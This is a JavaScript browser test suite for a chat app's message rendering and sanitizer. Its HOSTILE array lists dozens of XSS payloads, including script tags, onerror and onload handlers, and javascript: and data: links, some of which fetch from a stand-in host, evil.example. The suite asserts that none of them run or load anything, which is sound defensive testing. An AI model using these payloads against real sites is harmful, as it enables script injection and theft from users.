// What a message looks like: the same for everybody, live and on the page, whatever was typed; and nothing
// that was typed runs or loads anything.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, before, describe, test } from "node:test";
import { launch, Person, ROOT, SERVERS, Stack, twoPeople } from "./lib.mjs";

const LIMITS = { rate_address_burst: "5000", rate_user_burst: "5000", browser_token: "cookie:host" };

// The texts of the golden file, which have been cleaned as the server does it.
function goldenTexts() {
    const lines = readFileSync(`${ROOT}/tests/unit/markup.golden`, "utf8").split("\n");
    return lines.filter((line) => line.startsWith("--- ")).map((line) =>
        line.slice(4).replace(/\\(?:u([0-9a-f]{4})|(.))/g, (_, code, sign) =>
            code ? String.fromCharCode(parseInt(code, 16)) : ({ n: "\n", t: "\t" })[sign] ?? sign),
    );
}

const looks = (person) => person.page.$$eval('.msg:not([data-seq=""])', (rows) =>
    Object.fromEntries(rows.map((row) => [row.dataset.id, row.querySelector(".msg-text").innerHTML])));

// Ways to have a script run or something fetched, in whatever a message may have been taken for.
const RUNS = ["alert(1)", "window.ran=1", "fetch('//evil.example/')"];
const HOSTILE = RUNS.flatMap((run) => [
    `<script>${run}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `"><script>${run}</script>`, `</div><script>${run}</script>`,
    `<img src=x onerror=${run}>`, `<img src="//evil.example/x.png">`, `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`,
    `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>${run}</script>"></iframe>`, `<object data="//evil.example/x"></object>`,
    `<embed src="//evil.example/x.swf">`, `<link rel=stylesheet href="//evil.example/x.css">`, `<style>@import '//evil.example/x.css';</style>`,
    `<body onload=${run}>`, `<video src="//evil.example/x.mp4" onerror=${run} autoplay></video>`, `<audio src="//evil.example/x.mp3" autoplay>`,
    `<input autofocus onfocus=${run}>`, `<details open ontoggle=${run}>`, `<marquee onstart=${run}>x</marquee>`, `<math href="javascript:${run}">x</math>`,
    `<a href="javascript:${run}">x</a>`, `<form action="javascript:${run}"><button>x</button></form>`, `<base href="//evil.example/">`,
    `<meta http-equiv=refresh content="0;url=//evil.example/">`, `<template><script>${run}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `[x](javascript:${run})`, `[x](JAVASCRIPT:${run})`, `[x](java&#115;cript:${run})`, `[x](javascript&colon;${run})`,
    `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`, `[x](vbscript:${run})`, `[x](//evil.example/)`, `[x](<javascript:${run}>)`,
    `![x](https://evil.example/x.png)`, `![x](javascript:${run})`, `![](https://evil.example/x.svg "onload=${run}")`, `[![x](https://evil.example/x.png)](https://evil.example/)`,
    `[x](https://evil.example/" onmouseover="${run})`, `[x](https://evil.example/ "t' onmouseover='${run}")`, `[x](https://evil.example/ 't" autofocus onfocus="${run}')`,
    `https://evil.example/"onmouseover="${run}`, `https://evil.example/'><script>${run}</script>`, `<https://evil.example/"onclick="${run}>`,
    "`</code><script>" + run + "</script>`", "```\n</code></pre><script>" + run + "</script>\n```", "```\"><script>\n" + run + "\n```",
    `**<img src=x onerror=${run}>**`, `> <img src=x onerror=${run}>`, `- <img src=x onerror=${run}>`, `*a [b](https://evil.example/* "<script>${run}</script>")*`,
    `&lt;img src=x onerror=${run}&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `\\<script>${run}\\</script>`, `<!--><script>${run}</script>-->`,
    `<![CDATA[<script>${run}</script>]]>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`, `{{{html}}}{{#html}}<script>${run}</script>{{/html}}`,
    `<p style="background:url(//evil.example/x)">x</p>`, `<table background="//evil.example/x"><td>x</table>`, `\u202e<script>${run}</script>`,
]);

for (const server of SERVERS) {
    describe(server, () => {
        let stack;
        let browser;
        let ana;
        let bo;
        let close;

        before(async () => {
            ({ stack, browser, ana, bo, close } = await twoPeople({ server, conf: LIMITS }));
        });
        after(() => close?.());

        test(`${server}: what one formats the other sees, and an edit changes it for both`, async () => {
            await ana.say("**crude** at `84.51`, see https://a.example/x_(y).\n- one\n- two");
            for (const person of [ana, bo]) {
                const text = person.page.locator(".msg-text", { hasText: "crude" });
                await text.locator("li").nth(1).waitFor();
                assert.equal(await text.locator("strong").textContent(), "crude");
                assert.equal(await text.locator("code").textContent(), "84.51");
                assert.equal(await text.locator("a").getAttribute("href"), "https://a.example/x_(y)");
                assert.equal(await text.locator("a").getAttribute("rel"), "nofollow noopener noreferrer");
                assert.equal(await text.locator("a").getAttribute("target"), "_blank");
            }
            await ana.reload();
            await ana.linkIs("live");
            await ana.page.press("#composer-text", "ArrowUp");
            assert.equal(await ana.page.inputValue(".edit-text"), "**crude** at `84.51`, see https://a.example/x_(y).\n- one\n- two");
            await ana.page.fill(".edit-text", "_crude_ at 5~7");
            await ana.page.press(".edit-text", "Enter");
            for (const person of [ana, bo]) {
                await person.page.waitForSelector('.msg-text:has(em:text-is("crude"))');
                assert.equal(await person.page.$(".msg-text strong"), null);
                assert.ok((await person.texts()).includes("crude at 5~7"));
            }
            const away = await bo.apart(browser);
            await away.open(stack.url);
            assert.deepEqual(await looks(away), await looks(bo));
            await away.leave();
        });

        test(`${server}: a message that is deleted leaves nothing of what it said`, async () => {
            await ana.say("**hushed** up");
            await bo.sees("hushed up");
            await bo.reload();
            await bo.linkIs("live");
            const id = await bo.page.locator(".msg", { hasText: "hushed up" }).getAttribute("data-id");
            const row = ana.page.locator(`.msg[data-id="${id}"]`);
            await row.hover();
            await row.locator(".msg-more").click();
            await ana.page.click('.sheet-menu .menu-item:text-is("Delete")');
            await ana.page.click('.sheet-confirm button:text-is("Delete")');
            await bo.page.waitForSelector(`.msg-gone[data-id="${id}"]`);
            assert.ok(!(await bo.page.content()).includes("hushed"));
        });
    });
}

describe("any text", () => {
    let stack;
    let browser;

    before(async () => {
        stack = await Stack.start({ conf: LIMITS });
        browser = await launch();
    });
    after(async () => {
        await browser?.close();
        await stack?.stop();
    });

    // Ten at a time: what is tested is what they look like, not their order.
    async function postAll(list, fields) {
        const posted = [];
        while (posted.length < list.length) {
            const some = list.slice(posted.length, posted.length + 10);
            posted.push(...(await Promise.all(some.map((text) => stack.post(text, fields)))));
        }
        return posted;
    }

    // A page that counts what it runs and fetches.
    async function watched() {
        const person = await Person.enter(browser);
        person.foreign = [];
        person.page.on("request", (request) => {
            if (!request.url().startsWith(stack.origin) && !request.url().startsWith("data:")) {
                person.foreign.push(request.url());
            }
        });
        await person.context.addInitScript(() => {
            window.ran = 0;
            window.alert = () => window.ran++;
        });
        return person;
    }

    async function runsNothing(person) {
        assert.equal(await person.page.evaluate(() => window.ran), 0);
        assert.deepEqual(person.foreign, []);
        assert.deepEqual(person.faults, []);
        const made = await person.page.$$eval(".msg-text *", (nodes) =>
            nodes.flatMap((node) => [node.localName, ...node.getAttributeNames().map((name) => `${node.localName}.${name}`)]));
        const known = "p br strong em del code pre blockquote ul ol li a a.href a.rel a.target a.title ol.start".split(" ");
        assert.deepEqual([...new Set(made)].filter((name) => !known.includes(name)), []);
        const links = await person.page.$$eval(".msg-text a", (nodes) => nodes.map((node) => node.protocol));
        assert.deepEqual(links.filter((scheme) => !["http:", "https:", "mailto:"].includes(scheme)), []);
    }

    test(`${HOSTILE.length} hostile texts run no script and load nothing, live and on the page`, async () => {
        const person = await watched();
        await person.open(stack.url);
        await person.linkIs("live");
        const posted = await postAll(HOSTILE);
        const last = posted.at(-1);
        await Promise.all(posted.map(({ id }) => person.page.waitForSelector(`.msg[data-id="${id}"]`)));
        await runsNothing(person);
        for (const place of [`${stack.url}`, `${stack.url}m/${last.id}/`]) {
            await person.open(place);
            await person.linkIs("live");
            await runsNothing(person);
        }
        await person.leave();
    });

    test("every text of the golden file looks live as it does on the page, and keeps its letters", async () => {
        const room = stack.room("energy");
        const person = await watched();
        await person.open(room);
        await person.linkIs("live");
        const posted = await postAll(goldenTexts(), { room: "energy" });
        const texts = new Map(posted.map(({ id, message }) => [String(id), message]));
        await Promise.all(posted.map(({ id }) => person.page.waitForSelector(`.msg[data-id="${id}"]`)));
        const live = await looks(person);
        assert.equal(Object.keys(live).length, texts.size);
        const plain = await browser.newContext({ javaScriptEnabled: false });
        const page = await plain.newPage();
        const onPage = {};
        let url = room;
        while (url) {
            await page.goto(new URL(url, room).href);
            Object.assign(onPage, await looks({ page }));
            const older = await page.$("#log-older a");
            url = older && (await older.getAttribute("href"));
        }
        assert.deepEqual(Object.keys(onPage).sort(), Object.keys(live).sort());
        assert.deepEqual(Object.keys(live).filter((id) => onPage[id] !== live[id]).map((id) => [onPage[id], live[id]]), []);
        const shown = await person.page.$$eval(".msg", (rows) => rows.map((row) => [row.dataset.id, row.querySelector(".msg-text").textContent]));
        const letters = (text) => text.replace(/[^\p{L}\p{N}]/gu, "");
        const lost = shown.filter(([id, text]) => ![...letters(text)].every((letter) => texts.get(id).includes(letter)));
        assert.deepEqual(lost, []);
        await plain.close();
        await person.leave();
    });

    test("HTML that the server does not write makes no node", async () => {
        const person = await watched();
        await person.open(stack.url);
        const read = (html) => person.page.evaluate(async (given) => {
            const { static: files } = JSON.parse(document.getElementById("app").dataset.config);
            const { readMarkup } = await import(`${files}/js/markup.js`);
            const fragment = readMarkup(given);
            const box = document.createElement("div");
            box.append(fragment ?? "(none)");
            document.body.append(box);
            return box.innerHTML;
        }, html);
        assert.equal(await read("a <strong>b</strong>&amp;&lt;<br>"), "a <strong>b</strong>&amp;&lt;<br>");
        for (const html of ["<script>alert(1)</script>", "<img src=x>", "<b>x</b>", "<p onclick=\"x\">a", "<em>a", "a</em>", "<em>a</strong>",
            "<svg></svg>", "<!-- a -->", "<p><style>x</style></p>", "<EM>a</EM>", "a < b", "<em\n>a</em>", "<a href='x'>a</a>"]) {
            assert.equal(await read(html), "(none)", html);
        }
        assert.equal(await read('<a href="javascript:alert(1)">a</a>'), "<a>a</a>");
        assert.equal(await read('<a href="https://b.example" onclick="alert(1)">a</a>').then((html) => html.includes("onclick")), false);
        assert.equal(await person.page.evaluate(() => window.ran), 0);
        await person.leave();
    });
});
